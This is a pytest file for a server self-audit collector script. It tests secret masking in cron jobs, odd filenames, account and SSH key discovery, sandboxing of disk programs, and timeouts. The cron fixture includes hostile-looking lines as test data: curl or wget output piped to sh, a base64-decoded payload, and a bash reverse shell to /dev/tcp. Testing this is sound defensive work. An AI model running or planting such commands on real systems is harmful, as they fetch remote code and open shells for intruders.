"""The collector on a server that somebody prepared for it: it does not hang, runs nothing of theirs, and hides nothing that it saw."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.checks.host import ROOTS_HOME
from tests.collector.reading import SCRIPT, SHELLS, collect, read, run
from tests.collector.roots import KEY, family, plant, programs

AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root can")


def functions(name: str, call: str, *arguments: str, shell: str = "sh", stdin: str = "") -> str:
    """What one function of the script prints, without the rest of it."""
    source = SCRIPT.read_text("ascii")
    begin = source.index(f"\n{name}() ")
    body = source[begin : source.index("\n}\n", begin) + 3]
    words = ["busybox", "sh"] if shell == "busybox" else [shell]
    say = "say() { printf '%s\\n' \"$1\"; }\n"
    done = subprocess.run(
        [*words, "-c", say + body + call, "sh", *arguments], input=stdin, capture_output=True, text=True, check=False
    )
    return done.stdout


JOBS = {
    "*/5 * * * * root curl -fsSL http://192.0.2.66/k | sh": "*/5 * * * * root curl -fsSL http://192.0.2.66/k | sh",
    "0 1 * * * root curl -s https://h.example/botID:abc/send.php?x=1 | bash": "0 1 * * * root curl -s https://h.example/....php | bash",
    "@daily root echo Y3VybA== | base64 -d | sh": "@daily root echo *** | base64 -d | sh",
    "@daily root bash -c \"wget -qO- http://192.0.2.66/x | sh\"": "@daily root bash -c \"wget -qO- http://192.0.2.66/x | sh\"",
    "@daily root X=/tmp/.x; mkdir -p /tmp/a; /tmp/.x/run -p pw": "@daily root X=/tmp/.x; mkdir -p /tmp/a; /tmp/.x/run -p ***",
    "@daily root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1": "@daily root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "@daily user curl http://192.0.2.66/k|sh": "@daily user curl http://192.0.2.66/k|sh",
    "@daily root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily": "@daily root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
    "PATH=/usr/bin:/bin": "PATH=/usr/bin:/bin",
    "CF_API=abc /usr/local/bin/ddns": "CF_API=*** /usr/local/bin/ddns",
    "@daily root mysql -u root -p\"my pw\" -e 'select 1'": "@daily root mysql -u *** -p*** -e 'select 1'",
    "@daily root x --header=\"Cookie: abc\" --cookie abc --out /srv/a": "@daily root x --header=*** --cookie *** --out /srv/a",
}  # fmt: skip


@pytest.mark.parametrize("shell", SHELLS)
def test_jobs_keep_their_shape_and_lose_their_secrets(shell: str) -> None:
    lines = functions("hide_jobs", "hide_jobs", shell=shell, stdin="".join(f"{job}\n" for job in JOBS)).splitlines()
    assert dict(zip(JOBS, lines, strict=True)) == JOBS


def test_names_with_line_ends_are_seen(tmp_path: Path) -> None:
    root = plant(
        family(tmp_path, "debian"),
        {
            "usr/local/bin/a\nb": "x",
            "etc/cron.d/c\nd|e": "* * * * * root true\n",
            "etc/systemd/system/f\ng.service": "[Service]\nExecStart=/bin/x\n",
            "var/www/h\ni/wp-includes/version.php": "$wp_version = '6.1';\n",
            "var/www/j|k/wp-includes/version.php": "$wp_version = '6.2';\n",
            "var/www/w/wp-includes/version.php": "$wp_version = '6.3';\n",
            "var/www/w/wp-content/plugins/p\n|x/q.php": "Plugin Name: Q\nVersion: 1\n",
            "var/www/w/wp-content/plugins/out": "-> /etc",
        },
    )
    os.mkfifo(root / "var/www/w/wp-content/plugins/p\n|x/a.php")
    parts = collect("--root", str(root), "--no-chroot")
    assert "/usr/local/bin/a?b|-|-" in parts["persistence.files"].lines
    assert any(line.startswith("/etc/cron.d/c?d?e|2") for line in parts["persistence.cron"].lines)
    assert parts["persistence.timers"].lines == ("/etc/systemd/system/f?g.service|-|-",)
    assert [line.rsplit("|", 1)[0] for line in parts["software.sites"].lines] == [
        "wordpress|/var/www/h?i|-",
        "wordpress|/var/www/j?k|6.2",
        "wordpress|/var/www/w|6.3",
    ]
    assert parts["software.plugins"].lines == ("/var/www/w|plugin|p??x|1|-",)


def test_hashes_that_hold_the_letters_of_locked_ones(tmp_path: Path) -> None:
    root = family(tmp_path, "debian")
    (root / "etc/passwd").write_text(
        "a:x:1001:1::/a:/bin/sh\nb:x:1002:1::/b:/bin/sh\nc:x:1003:1::/c:/bin/sh\n+::::::\n+@net:x:0:0:::/bin/sh\n-bob:x:0:0:::/bin/sh\n"
    )
    (root / "etc/shadow").write_text("a:$6$xLKyNPz:1::::::\nb:*LK*:1::::::\nc:NP:1::::::\n")
    found = [line.split("|") for line in collect("--root", str(root), "--no-chroot")["login.accounts"].lines]
    assert [(f[0], f[3]) for f in found] == [("a", "set"), ("b", "locked"), ("c", "locked")]


def test_keys_elsewhere(tmp_path: Path) -> None:
    root = plant(
        family(tmp_path, "debian"),
        {
            "etc/ssh/sshd_config": "AuthorizedKeysFile /etc/ssh/keys/%u %h/.keys/a%%b\nMatch User anna\n  AuthorizedKeysFile = own/keys\n",
            "etc/ssh/keys/root": KEY,
            "home/anna/.keys/a%b": KEY,
            "home/anna/own/keys": KEY + KEY,
            "root/.ssh/authorized_keys2": KEY,
        },
    )
    rows = [line.split("|") for line in collect("--root", str(root), "--no-chroot")["login.keys"].lines]
    assert [(r[0], r[1], r[3]) for r in rows] == [
        ("root", f"{ROOTS_HOME}/.ssh/authorized_keys2", "1"),
        ("root", "/etc/ssh/keys/root", "1"),
        ("toor", f"{ROOTS_HOME}/.ssh/authorized_keys2", "1"),
        ("anna", "/home/anna/.keys/a%b", "1"),
        ("anna", "/home/anna/own/keys", "2"),
    ]


@AS_ROOT
def test_only_programs_of_root_are_asked_for_their_version(tmp_path: Path) -> None:
    plant(tmp_path, {"bin/java": "#!/bin/sh\n", "own/java": "#!/bin/sh\n"})
    assert functions("roots_own", 'roots_own "$1" || echo no', shutil.which("env") or "") != "no\n"
    os.chmod(tmp_path / "bin/java", 0o775)
    assert functions("roots_own", 'roots_own "$1" || echo no', str(tmp_path / "bin/java")) == "no\n"
    os.chown(tmp_path / "own", 65534, 65534)
    assert functions("roots_own", 'roots_own "$1" || echo no', str(tmp_path / "own/java")) == "no\n"


@AS_ROOT
def test_nothing_is_mounted_outside_and_nothing_of_a_disk_runs_as_root(tmp_path: Path) -> None:
    """A program of the disk sees an empty /var/tmp and a disk that is read-only, is nobody, and stays so."""
    root = plant(
        family(tmp_path / "root", "debian"),
        {"usr/bin/apt-get": '#!/bin/sh\nid -u; echo x > /x || echo sealed; grep -E "^(NoNewPrivs|CapEff)" /proc/self/status; ls /sys/class/net\n'},
    )  # fmt: skip
    for folder in ("dev", "tmp", "var/tmp", "usr/lib", "proc", "sys"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    busybox = shutil.which("busybox")
    if not busybox or b"interpreter" in subprocess.run(["readelf", "-l", busybox], capture_output=True, check=False).stdout:
        pytest.skip("needs a busybox without libraries")
    shutil.copy(busybox or "", root / "usr/bin/busybox")
    (root / "bin").symlink_to("usr/bin")
    for name in ("sh", "id", "grep", "ls"):
        (root / "usr/bin" / name).symlink_to("busybox")
    before = Path("/proc/self/mountinfo").read_text().count("/var/tmp")
    parts = collect("--root", str(root))
    assert Path("/proc/self/mountinfo").read_text().count("/var/tmp") == before
    assert parts["meta"].values["chroot"] == "yes"
    lines = parts["packages.upgrade"].lines
    assert "65534" in lines
    assert "sealed" in lines
    assert not (root / "x").exists()


# It waits for the limit each time, so two shells must do.
@pytest.mark.parametrize("shell", SHELLS[::2])
def test_a_program_that_leaves_another_behind_does_not_hold_us(shell: str, tmp_path: Path) -> None:
    path = programs(tmp_path / "bin", {"nft": (0, "")})
    plant(path, {"doveconf": "#!/bin/sh\nsleep 25 &\necho ssl = required\n"})
    started = time.monotonic()
    parts = read(run(shell=shell, path=path).stdout)
    assert time.monotonic() - started < 35
    assert parts["mail.dovecot"].lines == ("# from doveconf -n", "ssl = required")
    assert parts["web.proxying"].note != "time"


@pytest.mark.parametrize("stdin", [False, True])
def test_the_watchdog_ends_what_no_limit_ends(stdin: bool, tmp_path: Path) -> None:
    """A program that looks as if it were none of those that get a limit hangs; the text is whole all the same."""
    path = programs(tmp_path / "bin", {})
    plant(path, {"hostname": "#!/bin/sh\nexec sleep 300\n"})
    started = time.monotonic()
    parts = read(run(path=path, stdin=stdin).stdout)
    assert time.monotonic() - started < 60
    assert parts["host"].status == "timeout"
    assert parts["web.proxying"].note == "time"


@pytest.mark.parametrize("shell", SHELLS)
def test_no_process_stays_behind(shell: str, tmp_path: Path) -> None:
    mark = f"x3-{os.getpid()}-{shell}"
    run("--root", str(family(tmp_path, "debian")), "--no-chroot", shell=shell, environment={"SELFAUDIT_MARK": mark})
    # busybox's timeout looks once a second whether its program has ended.
    for _ in range(30):
        left = running(mark)
        if not left:
            break
        time.sleep(0.1)
    assert left == []


def running(mark: str) -> list[bytes]:
    """The command lines of the processes in whose surroundings a word stands."""
    found = []
    for place in Path("/proc").glob("[0-9]*/environ"):
        try:
            if mark.encode() in place.read_bytes():
                found.append((place.parent / "cmdline").read_bytes())
        except OSError:
            continue
    return found


def test_a_part_that_is_too_long_keeps_its_status(tmp_path: Path) -> None:
    root = plant(family(tmp_path, "debian"), {f"etc/squid/conf.d/{n}.conf": "http_port 1\n" * 80_000 for n in range(4)})
    (root / "etc/squid/squid.conf").write_text("http_port 1\n")
    (root / "etc/squid/conf.d/9.conf").write_text("=ok,0,,1,\n" * 10)
    found = collect("--root", str(root), "--no-chroot")["proxy.squid"]
    assert (found.status, found.cut, len(found.lines)) == ("ok", True, 300)
